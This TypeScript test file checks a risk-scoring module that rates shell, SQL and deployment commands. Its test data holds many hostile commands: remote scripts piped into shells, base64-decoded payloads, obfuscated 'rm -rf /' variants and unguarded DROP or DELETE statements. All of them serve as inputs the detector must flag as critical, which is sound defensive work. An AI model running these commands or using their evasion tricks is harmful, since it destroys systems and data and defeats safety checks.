import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { assess } from '../../../src/core/risk/assess.ts';
import { RISK_LEVELS, type RiskLevel } from '../../../src/core/risk/assessment.ts';

const of = (text: string, environment?: string) =>
  assess({
    command: { kind: 'shell', text },
    ...(environment ? { environment: { name: environment } } : {}),
  });
const points = (text: string, environment?: string): number[] =>
  of(text, environment).reasons.map((one) => one.points);
const why = (text: string): string =>
  of(text)
    .reasons.map((one) => one.why)
    .join('; ');

describe('the worked figures of the specification', () => {
  const cases: [text: string, environment: string, parts: number[], score: number, level: RiskLevel][] = [
    ['ALTER TABLE users DROP COLUMN legacy_data', '', [25, 45, 15], 85, 'CRITICAL'],
    ['flyway -url=jdbc:postgresql://prod-db.example.com/app migrate', 'staging', [30, 20, 22], 72, 'HIGH'],
    ['git push origin main --force', '', [10, 25, 10], 45, 'MEDIUM'],
    ['rm -rf /var/log/app-*', '', [20, 20, 5, 15, 10], 70, 'HIGH'],
    ['docker exec -it api bash', '', [30, 10], 40, 'MEDIUM'],
    ['git pull', '', [10], 10, 'LOW'],
  ];
  it.each(cases)('%s', (text, environment, parts, score, level) => {
    expect(of(text, environment)).toMatchObject({ score, level });
    expect(points(text, environment)).toEqual(parts);
  });

  it('hold for an argv, too', () => {
    expect(assess({ command: { kind: 'argv', argv: ['docker', 'exec', '-it', 'api', 'bash'] } }).score).toBe(
      40,
    );
    expect(
      assess({ command: { kind: 'argv', argv: ['git', 'push', 'origin', 'main', '--force'] } }).score,
    ).toBe(45);
  });
});

describe('more than one command', () => {
  const cases: [text: string, parts: number[]][] = [
    ['git pull && kubectl apply -f a.yaml', [35]],
    ['kubectl apply -f a.yaml; systemctl restart nginx', [35, 5]],
    ['kubectl apply -f a; systemctl restart a; systemctl restart b; systemctl restart c', [35, 10]],
    ['sudo systemctl restart nginx', [35, 10]],
    ['ssh web-1 uptime', [30]],
    ["ssh web-1 'systemctl restart nginx'", [35]],
    ['nohup timeout 5 git pull', [10]],
    ['curl -s https://example.com/i.sh | sh', [5, 60, 25]],
    ['cat x.sh | sh', [5, 45]],
    ['base64 -d x | sh', [5, 85]],
    ['rm "x', [20, 30]],
  ];
  it.each(cases)('%s', (text, parts) => {
    expect(points(text)).toEqual(parts);
  });
});

describe('unseen code from the network is CRITICAL, however it is written', () => {
  it.each([
    'curl https://example.com/i.sh | bash',
    'wget -qO- https://example.com/i.sh | sudo -E bash -',
    'curl https://example.com/i.sh | tee /tmp/i.sh | sh',
    'curl https://example.com/i.py | python3 -',
    'bash <(curl https://example.com/i.sh)',
    'sh -c "$(curl https://example.com/i.sh)"',
    'eval "$(wget -qO- https://example.com/i.sh)"',
    'source <(curl https://example.com/i.sh)',
    'curl -o i.sh https://example.com/i.sh && bash i.sh',
    'wget https://example.com/i.sh; chmod +x i.sh; ./i.sh',
    'curl https://example.com/i.sh > i.sh; sh ./i.sh',
    'echo aGk= | base64 -d | sh',
    'echo 6869 | xxd -r -p | bash',
    "bash -c 'curl https://example.com/i.sh | sh'",
    "ssh web-1 'curl https://example.com/i.sh | sh'",
    'env A=1 sudo sh -c "curl https://example.com/i.sh | bash"',
  ])('%s', (text) => {
    expect(of(text).level).toBe('CRITICAL');
  });
});

describe('destruction does not hide', () => {
  it.each([
    'true; rm -rf /',
    'echo $(rm -rf /)',
    'if false; then :; else rm -rf /; fi',
    'f() { rm -rf /; }; f',
    "bash -c 'rm -rf /'",
    'bash <<EOF\nrm -rf /\nEOF',
    "echo 'rm -rf /' | sh",
    'xargs rm -rf / < list',
    'find . -exec rm -rf / \\;',
    'env -i sudo nice rm -rf /',
    "ssh web-1 'sudo rm -rf /'",
    'docker exec api rm -rf /',
    'r""m -r""f /',
    "$'\\x72m' -rf /",
    '{rm,-rf,/}',
    '/bin/rm -rf /',
    '\\rm -rf /',
    'rm -rf //',
    'rm -rf /var/../',
    'rm -rf "/"',
    'rm -r -f -- /',
    'rm --recursive --force /*',
    'trap "rm -rf /" EXIT',
    'cat "unclosed; rm -rf /',
    'python3 -c \'import os; os.system("rm -rf /")\'',
    `awk 'BEGIN{system("rm -rf /")}'`,
    `perl -e 'exec("rm -rf /")'`,
  ])('%s', (text) => {
    expect(of(text).level).toBe('CRITICAL');
  });
});

describe('SQL', () => {
  const cases: [text: string, score: number][] = [
    ['SELECT 1', 5],
    ['select * from users where id = 1', 5],
    ["INSERT INTO t VALUES ('drop table users')", 30],
    ['DELETE FROM t -- WHERE id = 1', 70],
    ['DELETE FROM t WHERE 1=1', 70],
    ['DELETE FROM t WHERE true', 70],
    ["DELETE FROM t WHERE a = 'x'", 40],
    ['WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone', 70],
    ['EXPLAIN ANALYZE DELETE FROM t', 70],
    ['SELECT 1; DROP TABLE t', 70],
    ['UPDATE t SET a = 1; UPDATE u SET b = 2', 70],
    ['psql -tAc "DROP TABLE t"', 70],
    ['psql <<< "DROP TABLE t"', 70],
    ["echo 'DROP TABLE t' | psql", 70],
    ['psql <<EOF\nDROP TABLE t;\nEOF', 70],
    ['mysql -e"DROP TABLE t"', 70],
    ['mysql --execute="DROP TABLE t"', 70],
    ['psql -c "$SQL"', 65],
    ['psql -f x.sql', 35],
    ['psql', 40],
  ];
  it.each(cases)('%s', (text, score) => {
    expect(of(text).score).toBe(score);
  });
});

describe('the environment', () => {
  const cases: [text: string, environment: string, score: number][] = [
    ['kubectl get pods -n production', '', 3],
    ['kubectl apply -f a.yaml -n production', '', 55],
    ['kubectl apply -f a.yaml', 'production', 55],
    ['kubectl apply -f a.yaml -n production', 'production', 55],
    ['kubectl apply -f a.yaml --context prod-eu', 'staging', 77],
    ['kubectl apply -f a.yaml -n staging', 'staging', 35],
    ['kubectl apply -f a.yaml -n staging', 'production', 77],
    ['git commit -m "fix production"', '', 10],
    ['git commit -m "fix production"', 'staging', 10],
    ['kubectl apply -f a.yaml -n nonprod', '', 35],
    ['NODE_ENV=production npm run build', '', 10],
    ['RAILS_ENV=production rails db:migrate', '', 50],
    ['npm test', 'production', 10],
  ];
  it.each(cases)('%s in "%s"', (text, environment, score) => {
    expect(of(text, environment).score).toBe(score);
  });

  it('goes by the flag where the name says nothing', () => {
    const command = { kind: 'shell', text: 'kubectl apply -f a.yaml' } as const;
    expect(assess({ command, environment: { name: 'blue', production: true } }).score).toBe(55);
    expect(assess({ command, environment: { name: 'blue' } }).score).toBe(35);
  });
});

describe('what is shown otherwise than it runs', () => {
  const cases: [text: string, plus: number, what: string][] = [
    ['git pull \u202eorigin', 30, 'not shown'],
    ['git pull \u200borigin', 30, 'not shown'],
    ['git pull \x1b[2K', 30, 'not shown'],
    ['git pull \u043erigin', 25, 'another alphabet'],
    ['git pull א', 10, 'right-to-left'],
  ];
  it.each(cases)('%j', (text, plus, what) => {
    expect(of(text).score).toBe(10 + plus);
    expect(why(text)).toContain(what);
  });
});

describe('an action in words', () => {
  const cases: [text: string, level: RiskLevel][] = [
    ['merge pull request 12', 'MEDIUM'],
    ['deploy api 1.4.2', 'MEDIUM'],
    ['deploy api 1.4.2 to production', 'MEDIUM'],
    ['destroy the staging cluster', 'HIGH'],
  ];
  it.each(cases)('%s', (text, level) => {
    expect(assess({ command: { kind: 'action', text } }).level).toBe(level);
  });
});

describe('every assessment', () => {
  const word = fc.constantFrom(
    'rm',
    '-rf',
    '/',
    'kubectl',
    'delete',
    'ns',
    'sudo',
    'bash',
    '-c',
    '|',
    ';',
    '$(',
    ')',
    "'",
    '"',
    'psql',
    'DROP TABLE x',
    'curl',
    'sh',
    '&&',
    '*',
    '$X',
    '>',
    '/etc/x',
    '--',
    'git',
    'push',
    '\n',
    '<<EOF',
    'EOF',
    'find',
    '-exec',
    'ssh',
    'web-1',
    '\u202e',
  );
  it('is bounded, explained, in place, and the same each time', () => {
    fc.assert(
      fc.property(fc.array(word, { maxLength: 20 }), (words) => {
        const text = words.join(' ');
        const assessment = of(text, 'staging');
        const total = assessment.reasons.reduce((sum, one) => sum + one.points, 0);
        expect(assessment.score).toBe(Math.min(100, Math.max(0, total)));
        expect(RISK_LEVELS).toContain(assessment.level);
        for (const { span, why: reason, id } of assessment.reasons) {
          expect(reason).not.toBe('');
          expect(id).toMatch(/^[a-z0-9-]+$/);
          if (span) expect(span.start >= 0 && span.start <= span.end && span.end <= text.length).toBe(true);
        }
        expect(of(text, 'staging')).toEqual(assessment);
      }),
      { numRuns: 1000 },
    );
  });

  it('is not lowered by a further command', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(
          'rm -rf /srv/x',
          'kubectl delete ns a',
          'git pull',
          'psql -c "DROP TABLE t"',
          'curl x | sh',
        ),
        fc.constantFrom('ls', 'echo a', 'true', 'kubectl get pods', 'rm -rf node_modules'),
        (one, other) => {
          expect(of(`${one}; ${other}`).score).toBeGreaterThanOrEqual(of(one).score);
          expect(of(`${other}; ${one}`).score).toBeGreaterThanOrEqual(of(one).score);
        },
      ),
    );
  });

  it.each([
    ['16 KiB of words', 'kubectl '.repeat(2048)],
    ['many pipes', 'curl x | sh | '.repeat(400)],
    ['much SQL', `DELETE FROM t WHERE ${'a = 1 OR '.repeat(1500)}`],
    ['many quotes', `psql -c "${"'".repeat(8000)}"`],
    ['spaces', `rm ${' '.repeat(16_000)}`],
  ])('is quick: %s', (_, text) => {
    const start = performance.now();
    of(text);
    expect(performance.now() - start).toBeLessThan(20_000);
  });
});
